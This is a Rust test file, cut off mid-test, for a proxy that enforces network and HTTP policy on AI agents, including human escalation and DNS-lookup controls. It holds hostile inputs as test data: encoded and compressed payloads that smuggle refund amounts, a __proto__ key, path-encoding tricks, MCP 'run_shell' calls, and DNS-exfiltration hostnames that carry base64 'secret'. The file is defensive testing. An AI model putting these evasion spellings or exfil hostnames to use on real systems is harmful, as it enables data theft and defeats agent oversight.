//! Canonical interpretation through the proxy's sockets: hostile spellings of bodies and paths,
//! the decision API agreeing with the proxy, no DNS lookup before a decision, network verdicts
//! on explicit-proxy requests and tunnels, and message framing on keep-alive connections.

use super::*;
use crate::proxy::canonical::tests::{gzip, zlib};

/// Standard base64, for `body_base64`.
fn b64(data: &[u8]) -> String {
    const A: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let mut out = String::new();
    for chunk in data.chunks(3) {
        let n = chunk
            .iter()
            .enumerate()
            .fold(0u32, |n, (i, &b)| n | u32::from(b) << (16 - 8 * i));
        for i in 0..=chunk.len() {
            out.push(char::from(A[(n >> (18 - 6 * i) & 63) as usize]));
        }
        for _ in chunk.len()..3 {
            out.push('=');
        }
    }
    out
}

/// A raw HTTP/1.1 request with a Content-Length (and `Connection: close`).
fn raw(method: &str, target: &str, headers: &[(&str, &str)], body: &[u8]) -> Vec<u8> {
    let mut out = format!("{method} {target} HTTP/1.1\r\n");
    for (k, v) in headers {
        out.push_str(&format!("{k}: {v}\r\n"));
    }
    out.push_str(&format!(
        "content-length: {}\r\nconnection: close\r\n\r\n",
        body.len()
    ));
    let mut out = out.into_bytes();
    out.extend_from_slice(body);
    out
}

/// One response's head and body, from a keep-alive connection.
async fn read_response(s: &mut TcpStream) -> String {
    let mut buf = Vec::new();
    let mut b = [0u8; 1];
    while !buf.ends_with(b"\r\n\r\n") {
        match tokio::time::timeout(Duration::from_secs(10), s.read(&mut b)).await {
            Ok(Ok(1)) => buf.push(b[0]),
            _ => return String::from_utf8_lossy(&buf).into_owned(),
        }
    }
    let head = String::from_utf8_lossy(&buf).to_ascii_lowercase();
    let len: usize = head
        .lines()
        .find_map(|l| l.strip_prefix("content-length:"))
        .and_then(|v| v.trim().parse().ok())
        .unwrap_or(0);
    let mut body = vec![0u8; len];
    let _ = tokio::time::timeout(Duration::from_secs(10), s.read_exact(&mut body)).await;
    buf.extend(body);
    String::from_utf8_lossy(&buf).into_owned()
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn hostile_bodies_and_paths_are_refused_or_decided_as_canonical() {
    let up = upstream("payments").await;
    let h = start(config(), examples(), Limits::default()).await;
    let me = h.agent("agents/refund-c1", None, Some(up.addr));
    let host = ("host", "api.payments.example");
    let json = ("content-type", "application/json");
    let five_thousand = br#"{"amount": 5000}"#;
    // (what, request, status the proxy answers, rule)
    let cases: Vec<(&str, Vec<u8>, u16, &str)> = vec![
        (
            "gzip",
            raw(
                "POST",
                "/v1/refunds",
                &[host, json, ("content-encoding", "gzip")],
                &gzip(five_thousand),
            ),
            403,
            "refund-agent/refund-large",
        ),
        (
            "deflate",
            raw(
                "POST",
                "/v1/refunds",
                &[host, json, ("content-encoding", "deflate")],
                &zlib(five_thousand),
            ),
            403,
            "refund-agent/refund-large",
        ),
        (
            "br",
            raw(
                "POST",
                "/v1/refunds",
                &[host, json, ("content-encoding", "br")],
                b"\x0b\x02\x80",
            ),
            415,
            "builtin:body",
        ),
        (
            "text/plain",
            raw(
                "POST",
                "/v1/refunds",
                &[host, ("content-type", "text/plain")],
                five_thousand,
            ),
            403,
            "refund-agent/refund-large",
        ),
        (
            "duplicate keys",
            raw(
                "POST",
                "/v1/refunds",
                &[host, json],
                br#"{"amount": 50, "amount": 5000}"#,
            ),
            400,
            "builtin:invalid-json",
        ),
        (
            "a __proto__ key, escaped (red team round 11)",
            raw(
                "POST",
                "/v1/refunds",
                &[host, json],
                br#"{"\u005f_proto__": {"amount": 5000}}"#,
            ),
            400,
            "builtin:invalid-json",
        ),
        (
            "numeric string",
            raw(
                "POST",
                "/v1/refunds",
                &[host, json],
                br#"{"amount": "5000"}"#,
            ),
            403,
            "refund-agent/refund-large",
        ),
        (
            "hex string",
            raw(
                "POST",
                "/v1/refunds",
                &[host, json],
                br#"{"amount": "0x1388"}"#,
            ),
            400,
            "builtin:body",
        ),
        (
            "charset",
            raw(
                "POST",
                "/v1/refunds",
                &[host, ("content-type", "application/json; charset=utf-16le")],
                five_thousand,
            ),
            415,
            "builtin:body",
        ),
        (
            "form",
            raw(
                "POST",
                "/v1/refunds",
                &[host, ("content-type", "application/x-www-form-urlencoded")],
                b"amount=5000",
            ),
            415,
            "builtin:body",
        ),
        (
            "query field",
            raw(
                "POST",
                "/v1/refunds?amount=5000",
                &[host, json],
                br#"{"amount": 50}"#,
            ),
            400,
            "builtin:body",
        ),
        (
            "case and trailing slash",
            raw("POST", "/V1/Refunds/", &[host, json], five_thousand),
            403,
            "refund-agent/refund-large",
        ),
        (
            "encoded unreserved and double slash",
            raw("POST", "/v1//%72efunds", &[host, json], five_thousand),
            403,
            "refund-agent/refund-large",
        ),
        (
            "encoded slash",
            raw("POST", "/v1%2Frefunds", &[host, json], five_thousand),
            400,
            "builtin:request",
        ),
        (
            "path parameter",
            raw("POST", "/v1/refunds;x=1", &[host, json], five_thousand),
            400,
            "builtin:request",
        ),
        (
            "overlong dot",
            raw(
                "POST",
                "/v1/x/%C0%AE%C0%AE/refunds",
                &[host, json],
                five_thousand,
            ),
            400,
            "builtin:request",
        ),
    ];
    for (what, req, status, rule) in cases {
        let r = h.raw(me, &req).await;
        assert!(r.starts_with(&format!("HTTP/1.1 {status}")), "{what}: {r}");
        assert!(r.contains(rule), "{what}: {r}");
        if status != 200 {
            let rec = h.last_record(|x| x.kind == "http");
            assert_eq!(rec.rule, rule, "{what}");
            assert!(rec.denied, "{what}");
        }
    }
    assert!(
        up.seen.lock().unwrap().is_empty(),
        "nothing reached the upstream: {:?}",
        up.seen.lock().unwrap()
    );
    // A small gzip refund is decided on its decoded body and forwarded as sent.
    let r = h
        .raw(
            me,
            &raw(
                "POST",
                "/v1/refunds",
                &[host, json, ("content-encoding", "gzip")],
                &gzip(br#"{"amount": 50}"#),
            ),
        )
        .await;
    assert!(r.starts_with("HTTP/1.1 200"), "{r}");
    let seen = up.seen.lock().unwrap()[0].clone();
    assert_eq!(seen["headers"]["content-encoding"], "gzip");
    // On an MCP endpoint a refusal is a JSON-RPC error.
    let searcher = h.agent("agents/r-c1", Some("research-agent"), Some(up.addr));
    let batch =
        r#"[{"jsonrpc":"2.0","id":1,"method":"tools/call","params":{"name":"list_tools"}},7]"#;
    let r = h
        .raw(
            searcher,
            &raw(
                "POST",
                "/mcp",
                &[("host", "mcp.search.example"), json],
                batch.as_bytes(),
            ),
        )
        .await;
    assert!(r.starts_with("HTTP/1.1 400"), "{r}");
    assert!(r.contains("-32600") && r.contains("builtin:jsonrpc"), "{r}");
    h.assert_no_panics();
}

/// The proxy's verdict and rule for a raw request: from its first decision record (a held
/// request is withdrawn when the connection goes).
async fn proxy_verdict(h: &Harness, me: IpAddr, req: &[u8]) -> (String, String) {
    let before = h.records.lock().unwrap().len();
    let mut s = h.connect(me).await;
    s.write_all(req).await.unwrap();
    let decided = || {
        h.records.lock().unwrap()[before..]
            .iter()
            .find(|r| r.kind == "http")
            .cloned()
    };
    until("the proxy's decision record", || decided().is_some()).await;
    drop(s);
    let rec = decided().unwrap();
    (rec.verdict.into_owned(), rec.rule)
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_decision_api_and_the_proxy_agree_on_hostile_inputs() {
    let up = upstream("payments").await;
    let h = start(config(), examples(), Limits::default()).await;
    let refunds = h.agent("agents/refund-c2", None, Some(up.addr));
    let searcher = h.agent("agents/r-c2", Some("research-agent"), Some(up.addr));
    let json = ("content-type", "application/json");
    // The agents' connections go to the upstream's port, which their Hosts (and the URLs the
    // decision API is asked about) name.
    let (pay, mcp) = (
        format!("api.payments.example:{}", up.addr.port()),
        format!("mcp.search.example:{}", up.addr.port()),
    );
    let (pay, mcp) = (pay.as_str(), mcp.as_str());
    let call = |tool: &str, method: &str| {
        format!(
            r#"{{"jsonrpc":"2.0","id":1,"method":"{method}","params":{{"name":"{tool}","arguments":{{"url":"http://x"}}}}}}"#
        )
        .into_bytes()
    };
    let utf16: Vec<u8> = r#"{"amount": 5000}"#.encode_utf16().flat_map(u16::to_le_bytes).collect();
    // (agent, host, method, path and query, headers, body)
    type Input<'a> = (
        IpAddr,
        &'a str,
        &'a str,
        &'a str,
        Vec<(&'a str, &'a str)>,
        Vec<u8>,
    );
    let inputs: Vec<Input<'_>> = vec![
        (refunds, pay, "POST", "/v1/refunds", vec![json], br#"{"amount": 50}"#.to_vec()),
        (refunds, pay, "POST", "/v1/refunds", vec![json], br#"{"amount": 500}"#.to_vec()),
        (refunds, pay, "POST", "/v1/refunds", vec![json], br#"{"amount": 5000}"#.to_vec()),
        (refunds, pay, "POST", "/v1/refunds", vec![json], br#"{"amount": 50, "amount": 5000}"#.to_vec()),
        (refunds, pay, "POST", "/v1/refunds", vec![json], br#"{"amount": "5000"}"#.to_vec()),
        (refunds, pay, "POST", "/v1/refunds", vec![json], br#"{"amount": "0x1388"}"#.to_vec()),
        (refunds, pay, "POST", "/v1/refunds", vec![json], br#"{"Amount": 5000}"#.to_vec()),
        (refunds, pay, "POST", "/v1/refunds", vec![json], br#"[{"amount": 5000}]"#.to_vec()),
        (refunds, pay, "POST", "/v1/refunds", vec![json, ("content-encoding", "gzip")], gzip(br#"{"amount": 5000}"#)),
        (refunds, pay, "POST", "/v1/refunds", vec![json, ("content-encoding", "gzip")], gzip(br#"{"amount": 50}"#)),
        (refunds, pay, "POST", "/v1/refunds", vec![json, ("content-encoding", "br")], vec![1, 2, 3]),
        (refunds, pay, "POST", "/v1/refunds", vec![json], utf16),
        (refunds, pay, "POST", "/v1/refunds", vec![("content-type", "text/plain")], br#"{"amount": 5000}"#.to_vec()),
        (refunds, pay, "POST", "/v1/refunds", vec![("content-type", "application/x-www-form-urlencoded")], b"amount=5000".to_vec()),
        (refunds, pay, "POST", "/v1/refunds?amount=5000", vec![json], br#"{"amount": 50}"#.to_vec()),
        (refunds, pay, "POST", "/V1/Refunds/", vec![json], br#"{"amount": 5000}"#.to_vec()),
        (refunds, pay, "POST", "/v1/%72efunds", vec![json], br#"{"amount": 5000}"#.to_vec()),
        (refunds, pay, "POST", "/v1%2Frefunds", vec![json], br#"{"amount": 5000}"#.to_vec()),
        (refunds, pay, "POST", "/v1/refunds;a=1", vec![json], br#"{"amount": 5000}"#.to_vec()),
        (refunds, pay, "POST", "/v1/refunds", vec![json, ("x-http-method-override", "GET")], br#"{"amount": 50}"#.to_vec()),
        (refunds, pay, "GET", "/v1/balance", vec![], vec![]),
        (searcher, mcp, "POST", "/mcp", vec![json], call("run_shell", "tools/call")),
        (searcher, mcp, "POST", "/mcp", vec![json], call("run_shell", "Tools/Call")),
        (searcher, mcp, "POST", "/mcp", vec![json], call("fetch_url", "tools/call")),
        (searcher, mcp, "POST", "/mcp", vec![json], call("web_search", "tools/call")),
        (searcher, mcp, "POST", "/mcp", vec![json], br#"[{"jsonrpc":"2.0","id":1,"method":"tools/call","params":{"name":"web_search"}}, 5]"#.to_vec()),
        (searcher, mcp, "POST", "/mcp", vec![json], br#"{"jsonrpc":"2.0","id":1,"method":"tools/call","params":["run_shell"]}"#.to_vec()),
        (searcher, mcp, "POST", "/mcp", vec![json], b"{nope".to_vec()),
    ];
    let count = inputs.len();
    for (agent, host, method, path, headers, body) in inputs {
        let mut with_host = vec![("host", host)];
        with_host.extend(headers.iter().copied());
        let proxied = proxy_verdict(&h, agent, &raw(method, path, &with_host, &body)).await;
        let action = DecideAction::Http {
            http: HttpAction {
                method: method.into(),
                url: format!("http://{host}{path}"),
                headers: headers
                    .iter()
                    .map(|(k, v)| ((*k).to_owned(), (*v).to_owned()))
                    .collect(),
                body: None,
                body_base64: (!body.is_empty()).then(|| b64(&body)),
            },
        };
        let d = h.proxy.preauthorize(&client_of(&h, agent), action);
        assert_eq!(
            (d.verdict.as_ref(), d.rule.as_str()),
            (proxied.0.as_str(), proxied.1.as_str()),
            "{method} {host}{path} {headers:?} {}: {}",
            String::from_utf8_lossy(&body),
            d.reason
        );
    }
    assert!(count >= 28);
    // Through the decision API as JSON too: a duplicate key in the action is refused.
    let ask = |action: &str| {
        Request::post(DECIDE_PATH)
            .header("host", "127.0.0.1:15001")
            .body(Full::new(Bytes::from(action.to_owned())))
            .unwrap()
    };
    let r = h
        .send(
            refunds,
            ask(r#"{"http": {"method": "POST", "url": "http://api.payments.example/v1/refunds", "body": {"amount": 50, "amount": 5000}}}"#),
        )
        .await;
    assert_eq!(r.status, StatusCode::BAD_REQUEST, "{}", r.body);
    assert!(
        r.body["reason"].as_str().unwrap().contains("duplicate key"),
        "{}",
        r.body
    );
    h.assert_no_panics();
}

const DNS_POLICY: &str = r#"
name: dns
agents: { cgroup: agents/dns-* }
defaults: { http: block }
rules:
  - { id: local, http: { host: localhost }, verdict: allow, reason: The only name allowed. }
  - id: held
    http: { host: "*.held.invalid" }
    verdict: escalate
    escalate: { timeout: 1m }
    reason: A human looks first.
"#;

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn names_the_agent_chose_are_not_looked_up_before_a_decision() {
    let up = upstream("local").await;
    let h = start(config(), parse(DNS_POLICY), Limits::default()).await;
    let transparent = h.agent("agents/dns-1", None, Some(up.addr));
    let explicit = h.agent("agents/dns-2", None, None);
    let port = up.addr.port();

    // Transparent: a Host the policy blocks is refused without a lookup.
    let r = h
        .raw(
            transparent,
            b"GET /x HTTP/1.1\r\nHost: c2VjcmV0.exfil-1.invalid\r\nConnection: close\r\n\r\n",
        )
        .await;
    assert!(r.starts_with("HTTP/1.1 403"), "{r}");
    assert!(r.contains("\"rule\":\"default\""), "{r}");
    // Explicit: an absolute-form request and a CONNECT.
    let r = h
        .raw(
            explicit,
            b"GET http://c2VjcmV0.exfil-2.invalid/x HTTP/1.1\r\nHost: c2VjcmV0.exfil-2.invalid\r\nConnection: close\r\n\r\n",
        )
        .await;
    assert!(r.starts_with("HTTP/1.1 403"), "{r}");
    let r = h
        .raw(
            explicit,
            b"CONNECT c2VjcmV0.exfil-3.invalid:443 HTTP/1.1\r\nHost: c2VjcmV0.exfil-3.invalid:443\r\n\r\n",
        )
        .await;
    assert!(r.starts_with("HTTP/1.1 403"), "{r}");
    // TLS: the server name the agent chose.
    let mut s = h.connect(transparent).await;
    s.write_all(&client_hello("c2VjcmV0.exfil-4.invalid", true))
        .await
        .unwrap();
    let r = read_all(&mut s, Duration::from_secs(10)).await;
    assert_eq!(r.as_bytes(), ACCESS_DENIED);
    let rec = h.last_record(|r| r.object.url.contains("exfil-4"));
    assert_eq!(
        (rec.verdict.as_ref(), rec.rule.as_str()),
        ("block", "default")
    );
    let looked = h.proxy.upstream.looked_up();
    assert!(
        !looked.iter().any(|n| n.contains("exfil")),
        "names looked up before a decision: {looked:?}"
    );
    // An escalated request's name is not looked up while it is held, nor after a human denied
    // it (red team round 26: the transparent host check looked it up before holding it).
    let approvals = h.approvals.clone();
    let denier = tokio::spawn(async move {
        until("the request to be held for approval", || {
            approvals.list().len() == 1
        })
        .await;
        let id = approvals.list()[0].id.clone();
        approvals.deny(&id, "bob", "no").unwrap();
    });
    let r = h
        .raw(
            transparent,
            b"GET /x HTTP/1.1\r\nHost: c2VjcmV0.held.invalid\r\nConnection: close\r\n\r\n",
        )
        .await;
    denier.await.unwrap();
    assert!(r.starts_with("HTTP/1.1 403"), "{r}");
    let looked = h.proxy.upstream.looked_up();
    assert!(
        !looked.iter().any(|n| n.contains("held")),
        "an escalated name looked up before it was approved: {looked:?}"
    );

    // A name the policy allows is looked up, once it is allowed, for the host check.
    let r = h
        .raw(
            transparent,
            format!("GET /x HTTP/1.1\r\nHost: localhost:{port}\r\nConnection: close\r\n\r\n")
                .as_bytes(),
        )
        .await;
    let looked = h.proxy.upstream.looked_up();
    assert_eq!(looked, vec!["localhost".to_owned()], "{r}");
    h.assert_no_panics();
}

// An agent whose only network is an internal API (by address) and one service through the
// proxy; its own DNS is refused (the proxy's DNS server is 127.0.0.1:53 in these tests).
const DNS_NET_POLICY: &str = r#"
name: dnsnet
agents: { cgroup: agents/dnsnet-* }
defaults: { network: block }
rules:
  - id: wiki-via-proxy
    network: { cidr: ["127.0.0.1/32"], ports: PORT, via_proxy: true }
    verdict: allow
    reason: The wiki, through the policy proxy.
  - id: internal-api
    network: { cidr: ["10.99.0.0/16"], ports: 443, protocol: tcp }
    verdict: allow
    reason: The internal API.
  - id: wiki-name
    http: { host: localhost }
    verdict: allow
    reason: The wiki's name.
"#;

/// The same network, and DNS of its own.
const DNS_OWN_POLICY: &str = r#"
name: dnsown
agents: { cgroup: agents/dnsown-* }
defaults: { network: block }
rules:
  - id: internal-api
    network: { cidr: ["10.99.0.0/16"], ports: 443, protocol: tcp }
    verdict: allow
    reason: The internal API.
  - id: dns
    network: { cidr: ["127.0.0.1/32"], ports: 53, protocol: udp }
    verdict: allow
    reason: The node's resolver.
"#;

/// A name an agent chose is not resolved for a request the network rules refuse, nor for a
/// host check the policy cannot vouch for: no DNS query carries it out of an agent whose own
/// DNS is refused (`defaults: { network: block }`). Every way in: a CONNECT and an
/// absolute-form request to a port no rule opens (refused for every address, unresolved) or
/// to one opened by address only (the name would have to be resolved: refused, `builtin:dns`);
/// transparent `Host`, TLS server name and h2c `:authority` on a connection `via_proxy` sent
/// (the host check refuses a name it would have to look up). Controls: a name a rule names
/// and a static address are resolved and go through; an agent that may query DNS itself has
/// names looked up as before.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn names_are_not_looked_up_for_an_agent_whose_network_refuses_them() {
    let up = upstream("wiki").await;
    let port = up.addr.port();
    let yaml = DNS_NET_POLICY.replace("PORT", &port.to_string());
    let cfg = ProxyConfig {
        dns_servers: Some(vec![IpAddr::V4(Ipv4Addr::LOCALHOST)]),
        ..config()
    };
    let h = start(cfg.clone(), parse(&yaml), Limits::default()).await;
    let transparent = h.agent("agents/dnsnet-1", None, Some(up.addr));
    let explicit = h.agent("agents/dnsnet-2", None, None);

    // Explicit: a port no rule opens is refused by the default, without a lookup.
    let r = h
        .raw(
            explicit,
            b"CONNECT c-c2VjcmV0.exfil-5.invalid:8443 HTTP/1.1\r\nHost: c-c2VjcmV0.exfil-5.invalid:8443\r\n\r\n",
        )
        .await;
    assert!(r.starts_with("HTTP/1.1 403"), "{r}");
    assert!(r.contains("\"rule\":\"default\""), "{r}");
    let rec = h.last_record(|r| r.object.dest.contains("exfil-5"));
    assert_eq!(rec.object.dest, "c-c2vjcmv0.exfil-5.invalid:8443");
    assert!(
        rec.reason.contains("the default for network is block"),
        "{}",
        rec.reason
    );
    let r = h
        .raw(
            explicit,
            b"GET http://g-c2VjcmV0.exfil-6.invalid/ HTTP/1.1\r\nHost: g-c2VjcmV0.exfil-6.invalid\r\nConnection: close\r\n\r\n",
        )
        .await;
    assert!(r.starts_with("HTTP/1.1 403"), "{r}");
    assert!(r.contains("\"rule\":\"default\""), "{r}");
    // A port opened for some addresses only: the name is not looked up to find out.
    let r = h
        .raw(
            explicit,
            b"CONNECT c-c2VjcmV0.exfil-7.invalid:443 HTTP/1.1\r\nHost: c-c2VjcmV0.exfil-7.invalid:443\r\n\r\n",
        )
        .await;
    assert!(r.starts_with("HTTP/1.1 403"), "{r}");
    assert!(r.contains("\"rule\":\"builtin:dns\""), "{r}");
    let r = h
        .raw(
            explicit,
            format!("GET http://g-c2VjcmV0.exfil-8.invalid:{port}/ HTTP/1.1\r\nHost: g-c2VjcmV0.exfil-8.invalid:{port}\r\nConnection: close\r\n\r\n").as_bytes(),
        )
        .await;
    assert!(r.starts_with("HTTP/1.1 403"), "{r}");
    assert!(r.contains("\"rule\":\"builtin:dns\""), "{r}");
    let rec = h.last_record(|r| r.rule == "builtin:dns");
    assert!(
        rec.reason.contains("may not query DNS itself"),
        "{}",
        rec.reason
    );
    // Transparent (a connect `via_proxy` sent): Host, TLS server name, h2c :authority.
    let r = h
        .raw(
            transparent,
            b"GET / HTTP/1.1\r\nHost: h-c2VjcmV0.exfil-9.invalid\r\nConnection: close\r\n\r\n",
        )
        .await;
    assert!(r.starts_with("HTTP/1.1 403"), "{r}");
    assert!(r.contains("\"rule\":\"builtin:host-check\""), "{r}");
    let mut s = h.connect(transparent).await;
    s.write_all(&client_hello("s-c2vjcmv0.exfil-10.invalid", true))
        .await
        .unwrap();
    let r = read_all(&mut s, Duration::from_secs(10)).await;
    assert_eq!(r.as_bytes(), ACCESS_DENIED);
    let rec = h.last_record(|r| r.object.url.contains("exfil-10"));
    assert_eq!(rec.rule, "builtin:host-check");
    let (mut tx, _conn) = h.h2c(transparent).await;
    let req = Request::get(format!("http://a-c2vjcmv0.exfil-11.invalid:{port}/"))
        .body(Full::new(Bytes::new()))
        .unwrap();
    let resp = tokio::time::timeout(Duration::from_secs(20), tx.send_request(req))
        .await
        .expect("answered in time")
        .unwrap();
    assert_eq!(resp.status(), StatusCode::FORBIDDEN);
    let rec = h.last_record(|r| r.object.url.contains("exfil-11"));
    assert_eq!(rec.rule, "builtin:host-check");
    // The decision API decides without looking anything up.
    let r = h
        .raw(
            transparent,
            format!(
                "POST {DECIDE_PATH} HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{}",
                r#"{"http":{"method":"GET","url":"http://d-c2vjcmv0.exfil-12.invalid/"}}"#.len(),
                r#"{"http":{"method":"GET","url":"http://d-c2vjcmv0.exfil-12.invalid/"}}"#
            )
            .as_bytes(),
        )
        .await;
    assert!(r.starts_with("HTTP/1.1 200"), "{r}");
    let looked = h.proxy.upstream.looked_up();
    assert!(
        !looked.iter().any(|n| n.contains("exfil")),
        "names looked up for refused requests: {looked:?}"
    );
    assert!(looked.is_empty(), "{looked:?}");

    // Controls. A static address (`--proxy-host`) needs no lookup and goes through.
    let r = h
        .send(
            explicit,
            Request::get(format!("http://api.payments.example:{port}/x"))
                .body(Full::new(Bytes::new()))
                .unwrap(),
        )
        .await;
    assert_eq!(r.body["upstream"], "wiki", "{}", r.body);
    assert!(h.proxy.upstream.looked_up().is_empty());
    // A name a rule names is looked up once allowed, and goes through.
    let r = h
        .send(
            transparent,
            Request::get("/x")
                .header("host", "localhost")
                .body(Full::new(Bytes::new()))
                .unwrap(),
        )
        .await;
    assert_eq!(r.body["upstream"], "wiki", "{}", r.body);
    assert_eq!(h.proxy.upstream.looked_up(), vec!["localhost".to_owned()]);
    h.assert_no_panics();

    // An agent that may query DNS itself: the proxy's lookup opens nothing new, and it is
    // made as before (here the address is then refused: the record names it).
    let h = start(cfg, parse(DNS_OWN_POLICY), Limits::default()).await;
    let own = h.agent("agents/dnsown-1", None, None);
    let r = h
        .raw(
            own,
            b"CONNECT localhost:443 HTTP/1.1\r\nHost: localhost:443\r\n\r\n",
        )
        .await;
    assert!(r.starts_with("HTTP/1.1 403"), "{r}");
    assert!(r.contains("\"rule\":\"default\""), "{r}");
    assert_eq!(h.proxy.upstream.looked_up(), vec!["localhost".to_owned()]);
    let rec = h.last_record(|r| r.object.url.contains("localhost"));
    assert!(
        rec.object.dest.ends_with(":443") && !rec.object.dest.starts_with("localhost"),
        "{rec:?}"
    );
    h.assert_no_panics();
}

/// A client in a network namespace of its own (served by a listener opened there, with the
/// namespace's [`Origin`]) has every upstream connection made from that namespace: here the
/// origin's socket thread stands in for it. One whose thread is gone gets 502 for an absolute-form
/// request, a CONNECT and a transparent request alike: never a connection from the proxy's own
/// namespace instead. The node's resolver at a loopback address is not one the agent's rules
/// for that address let it query from its namespace: a name it chose is not looked up for it
/// (`builtin:dns`), while a client in the proxy's namespace under the same policy has it looked
/// up as before. Controls: the live origin reaches the upstream every way.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_client_in_another_namespace_is_connected_from_it_or_not_at_all() {
    let up = upstream("wiki").await;
    let port = up.addr.port();
    let cfg = ProxyConfig {
        dns_servers: Some(vec![IpAddr::V4(Ipv4Addr::LOCALHOST)]),
        ..config()
    };
    // The rules open the upstream's address and port, and let the agent query the resolver
    // at 127.0.0.1 itself.
    let policy = format!(
        "{DNS_OWN_POLICY}  - id: wiki\n    network: {{ cidr: [\"127.0.0.1/32\"], ports: {port} }}\n    verdict: allow\n    reason: The wiki.\n"
    );
    let h = start(cfg, parse(&policy), Limits::default()).await;
    // Listeners standing for two namespaces' own: one whose socket thread serves, one whose
    // thread is gone.
    let serve = |origin: Arc<Origin>| async {
        let l = TcpListener::bind("127.0.0.1:0").await.unwrap();
        let addr = l.local_addr().unwrap();
        (
            addr,
            tokio::spawn(h.proxy.clone().serve_from(l, Some(origin))),
        )
    };
    let (maker, requests) = super::origin::socket_channel();
    // (Ends with its last maker; not waited for.)
    std::thread::spawn(move || super::origin::serve_sockets(requests));
    let (live, live_task) = serve(h.proxy.origin(maker)).await;
    let (maker, requests) = super::origin::socket_channel();
    drop(requests);
    let (dead, dead_task) = serve(h.proxy.origin(maker)).await;
    let ask = |listener: SocketAddr, from: IpAddr, bytes: Vec<u8>| async move {
        let sock = TcpSocket::new_v4().unwrap();
        sock.bind(SocketAddr::new(from, 0)).unwrap();
        let mut s = sock.connect(listener).await.unwrap();
        s.write_all(&bytes).await.unwrap();
        read_all(&mut s, Duration::from_secs(10)).await
    };
    let explicit = h.agent("agents/dnsown-ns", None, None);
    let transparent = h.agent("agents/dnsown-ns-t", None, Some(up.addr));
    let get = format!(
        "GET http://127.0.0.1:{port}/abs HTTP/1.1\r\nHost: 127.0.0.1:{port}\r\nConnection: close\r\n\r\n"
    );
    let connect = format!(
        "CONNECT 127.0.0.1:{port} HTTP/1.1\r\nHost: 127.0.0.1:{port}\r\n\r\nGET /tun HTTP/1.1\r\nHost: 127.0.0.1:{port}\r\nConnection: close\r\n\r\n"
    );
    let plain = format!("GET /tr HTTP/1.1\r\nHost: 127.0.0.1:{port}\r\nConnection: close\r\n\r\n");
    for (what, from, req) in [
        ("absolute-form", explicit, &get),
        ("CONNECT", explicit, &connect),
        ("transparent", transparent, &plain),
    ] {
        // (A CONNECT is answered 200 before its first request goes upstream.)
        let r = ask(dead, from, req.clone().into_bytes()).await;
        assert!(
            r.contains("HTTP/1.1 502") && r.contains("no socket thread") && !r.contains("wiki"),
            "{what}, origin gone: {r}"
        );
        let r = ask(live, from, req.clone().into_bytes()).await;
        assert!(
            r.contains("HTTP/1.1 200") && r.contains("\"upstream\":\"wiki\""),
            "{what}, from the namespace: {r}"
        );
    }
    let seen: Vec<String> = up
        .seen
        .lock()
        .unwrap()
        .iter()
        .map(|v| v["path"].as_str().unwrap_or("").to_owned())
        .collect();
    assert_eq!(seen, ["/abs", "/tun", "/tr"], "only the live origin's");

    // DNS: the node's resolver at 127.0.0.1 is not the one the agent's rule for 127.0.0.1
    // reaches from its namespace.
    let r = ask(
        live,
        explicit,
        b"CONNECT n-c2VjcmV0.exfil-ns.invalid:443 HTTP/1.1\r\nHost: n-c2VjcmV0.exfil-ns.invalid:443\r\n\r\n".to_vec(),
    )
    .await;
    assert!(r.starts_with("HTTP/1.1 403"), "{r}");
    assert!(r.contains("\"rule\":\"builtin:dns\""), "{r}");
    assert!(h.proxy.upstream.looked_up().is_empty());
    // Control: the same from the proxy's own namespace is looked up (the agent may query that
    // resolver itself); the address is then refused by the default.
    let r = h
        .raw(
            explicit,
            b"CONNECT localhost:443 HTTP/1.1\r\nHost: localhost:443\r\n\r\n",
        )
        .await;
    assert!(r.starts_with("HTTP/1.1 403"), "{r}");
    assert!(r.contains("\"rule\":\"default\""), "{r}");
    assert_eq!(h.proxy.upstream.looked_up(), vec!["localhost".to_owned()]);
    h.assert_no_panics();
    live_task.abort();
    dead_task.abort();
}

/// The addresses that mean the namespace they are used in.
#[test]
fn node_local_addresses() {
    use super::decide::node_local;
    for a in [
        "127.0.0.53",
        "0.0.0.0",
        "169.254.169.254",
        "::1",
        "::",
        "fe80::1",
        "::ffff:127.0.0.1",
        "::ffff:169.254.0.1",
    ] {
        assert!(node_local(a.parse().unwrap()), "{a}");
    }
    for a in ["10.96.0.10", "8.8.8.8", "2001:db8::1", "::ffff:10.0.0.1"] {
        assert!(!node_local(a.parse().unwrap()), "{a}");
    }
}

const NET_POLICY: &str = r#"
name: net
agents: { cgroup: agents/net-* }
sandbox_profiles:
  scratch: { network: none, writable: [/tmp] }
rules:
  - id: metered
    network: { cidr: 127.0.0.1/32, ports: PORT_T }
    verdict: throttle
    throttle: { rate: 1, per: 1h }
    reason: One connection an hour.
  - id: held
    network: { cidr: 127.0.0.1/32, ports: PORT_E }
    verdict: escalate
    escalate: { timeout: 1m }
    reason: A human decides.
  - id: boxed
    network: { cidr: 127.0.0.1/32, ports: PORT_S }
    verdict: sandbox
    sandbox: { profile: scratch }
    reason: Sandboxed processes only.
"#;

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn explicit_requests_and_tunnels_honour_every_network_verdict() {
    let metered = upstream("metered").await;
    let held = upstream("held").await;
    let boxed = upstream("boxed").await;
    let yaml = NET_POLICY
        .replace("PORT_T", &metered.addr.port().to_string())
        .replace("PORT_E", &held.addr.port().to_string())
        .replace("PORT_S", &boxed.addr.port().to_string());
    let h = Arc::new(start(config(), parse(&yaml), Limits::default()).await);
    let me = h.agent("agents/net-1", None, None);
    let get = |port: u16| {
        Request::get(format!("http://api.payments.example:{port}/x"))
            .body(Full::new(Bytes::new()))
            .unwrap()
    };
    let connect = |port: u16| {
        format!(
            "CONNECT api.payments.example:{port} HTTP/1.1\r\nHost: api.payments.example:{port}\r\n\r\n"
        )
    };

    // throttle: the first connection passes, the next is 429, for requests and tunnels alike.
    let r = h.send(me, get(metered.addr.port())).await;
    assert_eq!(r.body["upstream"], "metered", "{}", r.body);
    let r = h.send(me, get(metered.addr.port())).await;
    assert_eq!(r.status, StatusCode::TOO_MANY_REQUESTS, "{}", r.body);
